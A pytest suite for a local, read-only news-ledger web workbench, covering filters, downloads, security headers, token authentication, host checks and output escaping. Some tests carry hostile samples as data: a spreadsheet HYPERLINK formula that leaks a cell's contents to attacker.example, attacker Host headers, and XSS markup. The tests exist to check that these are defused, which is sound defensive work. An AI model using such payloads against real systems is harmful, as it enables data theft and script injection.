"""`newsledger serve`: the workbench over the example ledger, its filters and downloads, and the
guarantees around it (read-only, escaped, local only unless a token is set)."""
from __future__ import annotations

import csv
import hashlib
import io
import warnings
from pathlib import Path

import pytest
from click.testing import CliRunner

from newsledger.api import LedgerView, build_index, open_read_only
from newsledger.cli import main
from newsledger.errors import StorageError

from serve_support import app_for, example_copy, example_ledger, hostile_ledger

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient


@pytest.fixture(scope="module")
def ledger_dir(tmp_path_factory) -> str:
    return str(tmp_path_factory.mktemp("serve"))


@pytest.fixture(scope="module")
def client(ledger_dir) -> TestClient:
    return TestClient(app_for(example_ledger(ledger_dir)), base_url="http://127.0.0.1")


def _digest(db: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(db.parent.glob(db.name + "*"))}


def test_stories_index_lists_every_story_with_size_and_contradictions(client):
    stories = client.get("/api/stories").json()
    assert stories["total"] == 2
    vovchansk, floods = stories["items"]
    assert vovchansk["size"] == 5 and vovchansk["contradictions"] >= 1
    assert "Steppe Observer" in vovchansk["outlets"] and floods["size"] == 1
    by_contradictions = client.get("/api/stories?sort=contradictions").json()["items"]
    assert by_contradictions[0]["id"] == vovchansk["id"]
    found = client.get("/api/stories?q=tyrol").json()
    assert [s["id"] for s in found["items"]] == [floods["id"]]
    page = client.get("/").text
    assert "Floods close mountain passes in Tyrol" in page and f'href="/stories/{vovchansk["id"]}"' in page


def test_story_page_is_the_report_live_from_the_ledger(client):
    story_id = client.get("/api/stories").json()["items"][0]["id"]
    page = client.get(f"/stories/{story_id}").text
    for section in ('id="findings"', 'id="timeline"', 'id="map"', 'id="claims"', 'id="framing"', 'id="sources"'):
        assert section in page
    assert "Vovchansk" in page and "<svg" in page
    assert page.count('href="/articles/') >= 5          # each member article opens in the workbench


def test_claims_filter_by_place_and_verdict_with_facet_counts(client):
    every = client.get("/api/claims").json()
    contradicted = client.get("/api/claims?place=Vovchansk&verdict=contradicted").json()
    assert 0 < contradicted["total"] < every["total"]
    assert {c["verdict"] for c in contradicted["items"]} == {"contradicted"}
    assert {c["place"] for c in contradicted["items"]} == {"Vovchansk"}
    verdicts = {f["value"]: f["count"] for f in every["facets"]["verdict"]}
    assert verdicts["contradicted"] == contradicted["total"]
    assert sum(verdicts.values()) == every["total"]
    alternatives = {f["value"] for f in contradicted["facets"]["verdict"]}
    assert {"contradicted", "evolving"} <= alternatives      # a facet counts without its own filter
    denial = next(c for c in contradicted["items"] if c["stance"] == "denies")
    assert denial["claimant"] == "Andriy Marchenko"
    hedged = client.get("/api/claims?hedged=true").json()
    assert hedged["total"] > 0 and all(c["hedges"] for c in hedged["items"])
    late = client.get("/api/claims?date_from=2025-03-18&date_to=2025-03-20").json()
    assert late["total"] > 0 and all("2025-03-18" <= c["date"] <= "2025-03-20" for c in late["items"])


def test_each_claim_row_points_at_its_sentence(client, ledger_dir):
    claim = client.get("/api/claims?claimant=Andriy Marchenko").json()["items"][0]
    with open_read_only(example_ledger(ledger_dir)) as ledger:
        body = ledger.article(claim["article_id"]).body
    assert body[claim["start"]:claim["end"]] == claim["sentence_text"]
    assert "denied" in claim["sentence_text"]
    page = client.get(f"/articles/{claim['article_id']}?start={claim['start']}&end={claim['end']}").text
    marked = page.split('<mark class="evidence" id="evidence">', 1)[1].split("</mark>", 1)[0]
    assert "denied on Monday by Colonel Andriy Marchenko" in marked
    assert claim["url"].endswith("01_steppe_observer_vovchansk.html")


def test_paging_is_stable_and_complete(client):
    total = client.get("/api/claims").json()["total"]
    ids = []
    for page in range(1, total // 3 + 2):
        ids += [c["id"] for c in client.get(f"/api/claims?per_page=3&page={page}").json()["items"]]
    assert len(ids) == total == len(set(ids))
    assert ids == [c["id"] for c in client.get("/api/claims?per_page=500").json()["items"]]


def test_claim_ids_are_the_same_on_every_start(ledger_dir):
    first = TestClient(app_for(example_ledger(ledger_dir)), base_url="http://127.0.0.1")
    second = TestClient(app_for(example_ledger(ledger_dir)), base_url="http://127.0.0.1")
    assert first.get("/api/claims").json()["items"] == second.get("/api/claims").json()["items"]


def test_csv_download_holds_the_filtered_rows_with_url_id_and_offsets(client):
    response = client.get("/download/claims.csv?verdict=evolving")
    assert response.headers["content-disposition"].startswith("attachment")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == client.get("/api/claims?verdict=evolving").json()["total"] > 0
    assert {r["verdict"] for r in rows} == {"evolving"}
    for row in rows:
        assert row["url"] and row["article_id"] and int(row["start"]) < int(row["end"])
    as_json = client.get("/download/claims.json?verdict=evolving").json()
    assert [r["id"] for r in as_json] == [r["id"] for r in rows]


def test_events_in_acled_columns_with_facets(client):
    events = client.get("/api/events").json()
    assert events["total"] > 0
    assert {f["value"] for f in events["facets"]["event_type"]} >= {"Battles"}
    battles = client.get("/api/events?event_type=Battles&location=Vovchansk").json()
    assert battles["total"] > 0 and all(e["location"] == "Vovchansk" for e in battles["items"])
    rows = list(csv.DictReader(io.StringIO(client.get("/download/events.csv").text)))
    assert list(rows[0])[:6] == ["event_id_cnty", "event_date", "year", "time_precision", "disorder_type", "event_type"]
    assert all(r["article_id"] and r["article_url"] and int(r["evidence_start"]) < int(r["evidence_end"])
               for r in rows)


def test_events_download_names_its_source_columns_as_the_events_export_does(client, ledger_dir, tmp_path):
    from newsledger.events.export import SOURCE_COLUMNS

    downloaded = list(csv.DictReader(io.StringIO(client.get("/download/events.csv").text)))
    exported = tmp_path / "events.csv"
    result = CliRunner().invoke(main, ["events", "--db", str(example_ledger(ledger_dir)), "--format", "csv",
                                       "-o", str(exported), "--quiet"])
    assert result.exit_code == 0, result.output
    header = next(csv.reader(exported.open(encoding="utf-8")))
    assert header[-len(SOURCE_COLUMNS):] == list(SOURCE_COLUMNS)
    assert list(downloaded[0]) == header + ["sentence", "story_id"]


def test_place_page_has_control_timeline_events_and_map(client):
    place = client.get("/api/places/Vovchansk").json()
    assert any(c["kind"] == "control" for c in place["claims"])
    assert place["events"] and place["points"]
    page = client.get("/places/Vovchansk").text
    assert 'class="timeline"' in page and 'class="map"' in page
    assert client.get("/api/places/Atlantis").status_code == 404
    places = client.get("/api/places").json()
    assert places[0]["name"] == "Vovchansk"                    # most cited first
    assert [p["claims"] + p["events"] for p in places] == sorted((p["claims"] + p["events"] for p in places), reverse=True)


def test_article_page_shows_removed_text_credits_and_syndication(client):
    articles = client.get("/api/stories/" + client.get("/api/stories").json()["items"][0]["id"]).json()["articles"]
    copy = next(a for a in articles if a["copy_of"])
    data = client.get(f"/api/articles/{copy['id']}").json()
    assert data["outlet_chain"]["copy_of"] == copy["copy_of"] and not data["outlet_chain"]["independent"]
    original = client.get(f"/api/articles/{copy['copy_of']}").json()
    assert copy["id"] in original["outlet_chain"]["copies"]
    page = client.get(f"/articles/{copy['id']}").text
    assert "Near copy of" in page and "Kharkiv Evening Post" in page
    steppe = next(a for a in articles if a["outlet"] == "Steppe Observer")
    page = client.get(f"/articles/{steppe['id']}").text
    assert "Removed boilerplate" in page and "Olena Hrytsenko" in page
    coded = client.get("/api/events", params={"article": steppe["id"]}).json()["items"]
    assert coded and "Events reported here" in page
    assert all(event["sub_event_type"] in page for event in coded)      # every event of the article shown


def test_bad_parameters_get_a_clear_4xx(client):
    bad = client.get("/api/claims?verdict=maybe")
    assert bad.status_code == 422 and "verdict" in bad.json()["detail"][0]
    assert client.get("/api/claims?date_from=yesterday").status_code == 422
    assert client.get("/api/claims?date_to=0").status_code == 422           # not a timestamp
    assert client.get("/api/claims?date_to=2025-02-30").status_code == 422
    assert client.get("/api/claims?per_page=0").status_code == 422
    assert client.get("/api/stories?sort=alphabet").status_code == 422
    assert client.get("/api/stories/nope").status_code == 404
    page = client.get("/claims?date_to=31/12/2025")
    assert page.status_code == 422 and "date_to" in page.text and "<html" in page.text
    assert client.get("/claims?date_from=&place=").status_code == 200     # empty form fields are no filter


def test_every_response_carries_the_security_headers(client):
    for path in ("/", "/claims", "/api/claims", "/static/workbench.css", "/nowhere"):
        headers = client.get(path).headers
        assert "default-src 'none'" in headers["content-security-policy"]
        assert "script-src" not in headers["content-security-policy"]        # no script at all
        assert headers["x-content-type-options"] == "nosniff"


def test_openapi_document_is_served_without_remote_assets(client):
    document = client.get("/api/openapi.json").json()
    assert {"/api/stories", "/api/claims", "/api/events", "/api/places/{name}"} <= set(document["paths"])
    params = {p["name"] for p in document["paths"]["/api/claims"]["get"]["parameters"]}
    assert {"place", "actor", "claimant", "outlet", "verdict", "hedged", "date_from", "date_to", "page"} <= params
    assert client.get("/docs").status_code == 404          # the Swagger page would load a CDN


def test_pages_escape_what_pages_contain(tmp_path):
    client = TestClient(app_for(hostile_ledger(tmp_path / "hostile.db")), base_url="http://127.0.0.1")
    story = client.get("/api/stories").json()["items"][0]
    article_id = client.get(f"/api/stories/{story['id']}").json()["articles"][0]["id"]
    for path in ("/", f"/stories/{story['id']}", f"/articles/{article_id}", "/claims", "/events"):
        page = client.get(path).text
        assert "<script>" not in page and "<img src=x" not in page and "<b>town" not in page
    assert "&lt;script&gt;alert(" in client.get(f"/articles/{article_id}").text
    assert "1 article(s) have no stored analysis" in client.get("/").text


def test_serving_never_changes_the_ledger(tmp_path, ledger_dir):
    db = example_copy(ledger_dir, tmp_path / "copy.db")
    before = _digest(db)
    client = TestClient(app_for(db), base_url="http://127.0.0.1")
    story = client.get("/api/stories").json()["items"][0]["id"]
    for path in ("/", f"/stories/{story}", "/claims?verdict=evolving", "/events", "/places/Vovchansk",
                 "/download/claims.csv", "/api/articles/" + client.get("/api/claims").json()["items"][0]["article_id"]):
        assert client.get(path).status_code == 200
    assert _digest(db) == before
    with pytest.raises(StorageError):
        client.app.state.index.view.ledger.put_stories([{"id": "x", "article_ids": []}])


def test_refuses_a_ledger_it_cannot_read(tmp_path):
    with pytest.raises(StorageError, match="no ledger here"):
        open_read_only(tmp_path / "missing.db")
    junk = tmp_path / "junk.db"
    junk.write_bytes(b"not a database at all" * 100)
    with pytest.raises(StorageError):
        LedgerView(open_read_only(junk))


def test_other_hosts_are_refused_on_loopback(client):
    assert client.get("/", headers={"host": "attacker.example"}).status_code == 400
    assert client.get("/", headers={"host": "127.0.0.1.attacker.example"}).status_code == 400
    assert client.get("/", headers={"host": "localhost:8000"}).status_code == 200
    # every loopback address serve may listen on without a token is a host it answers to
    for host in ("127.0.0.2:8000", "[::1]:8000"):
        assert client.get("/", headers={"host": host}).status_code == 200, host


def test_a_token_is_needed_on_every_request_when_set(ledger_dir):
    app = app_for(example_ledger(ledger_dir), token="s3cret-token", loopback_only=False)
    anonymous = TestClient(app, base_url="http://10.0.0.5")
    for path in ("/", "/api/claims", "/static/workbench.css", "/api/openapi.json"):
        assert anonymous.get(path).status_code == 401
    assert anonymous.get("/", headers={"authorization": "Bearer wrong"}).status_code == 401
    assert anonymous.get("/api/claims", headers={"authorization": "Bearer s3cret-token"}).status_code == 200
    browser = TestClient(app, base_url="http://10.0.0.5")
    assert browser.get("/?token=s3cret-token").status_code == 200            # sets the cookie
    assert browser.get("/claims").status_code == 200


def test_serve_refuses_another_address_without_a_token(ledger_dir):
    db = str(example_ledger(ledger_dir))
    result = CliRunner().invoke(main, ["serve", "--db", db, "--host", "0.0.0.0"], env={"NEWSLEDGER_TOKEN": ""})
    assert result.exit_code != 0 and "without a token" in result.output
    missing = CliRunner().invoke(main, ["serve", "--db", str(Path(ledger_dir) / "none.db")])
    assert missing.exit_code != 0 and "no ledger here" in missing.output


def test_index_counts_match_the_ledger(ledger_dir):
    view = LedgerView(open_read_only(example_ledger(ledger_dir)))
    index = build_index(view)
    assert view.stories_stored and not view.unanalysed
    assert index.counts()["articles"] == 6
    assert index.counts()["events"] == len(list(view.ledger.events()))


def test_a_postgresql_ledger_is_served_read_only(postgres_url):
    from newsledger.store import Ledger

    from serve_support import HOSTILE_HTML

    with Ledger.open(postgres_url) as ledger:
        from newsledger.extract import extract
        from newsledger.records import RawDocument

        ledger.put_article(extract(RawDocument("synthetic://hostile.html", HOSTILE_HTML)))
    client = TestClient(app_for(postgres_url), base_url="http://127.0.0.1")
    assert client.get("/api/stories").json()["total"] == 1
    with pytest.raises(StorageError):
        client.app.state.index.view.ledger.put_stories([{"id": "x", "article_ids": []}])


def test_serving_a_missing_postgresql_schema_refuses_and_creates_nothing(postgres_url):
    import psycopg

    missing = f"{postgres_url}_absent"              # the search_path names a schema nobody created
    schema = missing.rsplit("%3D", 1)[1]
    with pytest.raises(StorageError) as refused:
        open_read_only(missing)
    assert f'schema "{schema}"' in str(refused.value) and "newsledger ingest" in str(refused.value)
    with psycopg.connect(postgres_url, autocommit=True) as conn:
        created = conn.execute("SELECT 1 FROM pg_namespace WHERE nspname = %s", (schema,)).fetchone()
        conn.execute(f'DROP SCHEMA IF EXISTS "{schema}" CASCADE')
    assert created is None


def test_serving_an_empty_postgresql_schema_says_there_is_no_ledger(postgres_url):
    with pytest.raises(StorageError, match=r"no ledger here .*newsledger ingest"):
        open_read_only(postgres_url)


def test_the_token_never_reaches_the_servers_log(ledger_dir):
    """`serve --token` as a user runs it: a browser's first request carries ?token=, and the access
    log (on by default) prints every request's query: the token is masked there."""
    import subprocess
    import sys
    import time
    import urllib.request

    from serve_support import free_port

    token, port = "s3cret-token-for-the-log-test", free_port()
    command = [sys.executable, "-m", "newsledger.cli", "serve", "--db", str(example_ledger(ledger_dir)),
               "--port", str(port), "--token", token]
    server = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))    # straight to 127.0.0.1
    try:
        deadline, answered = time.monotonic() + 120, None      # a hang guard for the start-up
        while answered is None and time.monotonic() < deadline and server.poll() is None:
            try:
                with opener.open(f"http://127.0.0.1:{port}/?q=vovchansk&token={token}", timeout=30) as r:
                    answered = r.status
            except OSError:
                time.sleep(0.5)
    finally:
        server.terminate()
        log = server.communicate(timeout=30)[0]
    assert answered == 200, log
    assert "GET /?q=vovchansk&token=*** HTTP/1.1" in log       # the request is logged, its token masked
    assert token not in log


def test_word_search_folds_case_beyond_ascii(ledger_dir):
    client = TestClient(app_for(example_ledger(ledger_dir)), base_url="http://127.0.0.1")
    index = client.app.state.index
    claim_id = client.get("/api/claims").json()["items"][0]["id"]
    # a claim whose sentence names a place in Cyrillic capitals, as a Ukrainian dateline would
    index.conn.execute("UPDATE claims SET sentence_text = sentence_text || ' ВОВЧАНСЬК' WHERE id = ?", (claim_id,))
    found = client.get("/api/claims", params={"q": "вовчанськ"}).json()
    assert [c["id"] for c in found["items"]] == [claim_id]      # SQLite's lower() would find nothing


def test_a_csv_cell_a_spreadsheet_would_run_is_made_text(ledger_dir):
    client = TestClient(app_for(example_ledger(ledger_dir)), base_url="http://127.0.0.1")
    claim_id = client.get("/api/claims").json()["items"][0]["id"]
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'      # page text a hostile page could hold
    client.app.state.index.conn.execute("UPDATE claims SET text = ? WHERE id = ?", (formula, claim_id))
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(client.get("/download/claims.csv").text))}
    assert rows[claim_id]["text"] == "'" + formula
    assert {r["id"]: r["text"] for r in client.get("/download/claims.json").json()}[claim_id] == formula


def test_a_place_name_is_url_encoded_in_the_maps_links(ledger_dir):
    from urllib.parse import quote

    client = TestClient(app_for(example_ledger(ledger_dir)), base_url="http://127.0.0.1")
    odd = "Nova Kakhovka #2?"                        # a name with a space, a fragment and a query mark
    client.app.state.index.conn.execute("UPDATE events SET location = ? WHERE rowid = "
                                        "(SELECT MIN(rowid) FROM events WHERE latitude IS NOT NULL)", (odd,))
    page = client.get(f"/places/{quote(odd)}")
    assert page.status_code == 200
    assert f'href="/places/{quote(odd)}"' in page.text and 'href="/places/Nova Kakhovka #2?"' not in page.text


def test_the_index_is_read_back_for_an_unchanged_ledger_and_built_again_after_a_write(tmp_path, ledger_dir,
                                                                                      monkeypatch):
    from newsledger.store import Ledger

    from serve_support import HOSTILE_HTML

    monkeypatch.setenv("NEWSLEDGER_CACHE_DIR", str(tmp_path / "cache"))
    db = example_copy(ledger_dir, tmp_path / "copy.db")
    first = build_index(LedgerView(open_read_only(db)))
    [kept] = (tmp_path / "cache").glob("workbench-*.sqlite")
    claims = first.rows("SELECT * FROM claims ORDER BY id")

    def bundled_again(self):
        raise AssertionError("bundled again")

    monkeypatch.setattr(LedgerView, "bundles", bundled_again)
    second = build_index(LedgerView(open_read_only(db)))          # read back: nothing bundled
    assert second.rows("SELECT * FROM claims ORDER BY id") == claims and second.counts() == first.counts()
    assert second.rows("SELECT id FROM claims WHERE casefold(text) LIKE '%a%'")   # search works on it
    with Ledger.open(str(db)) as ledger:                          # the ledger changes: built again
        from newsledger.extract import extract
        from newsledger.records import RawDocument

        ledger.put_article(extract(RawDocument("synthetic://hostile.html", HOSTILE_HTML)))
    with pytest.raises(AssertionError, match="bundled again"):
        build_index(LedgerView(open_read_only(db)))
    for suffix in ("", "-wal", "-shm"):                           # a ledger that is gone: its index too
        Path(f"{db}{suffix}").unlink(missing_ok=True)
    other = example_copy(ledger_dir, tmp_path / "other.db")
    monkeypatch.undo()
    monkeypatch.setenv("NEWSLEDGER_CACHE_DIR", str(tmp_path / "cache"))
    build_index(LedgerView(open_read_only(other)))
    assert not kept.exists() and len(list((tmp_path / "cache").glob("workbench-*.sqlite"))) == 1
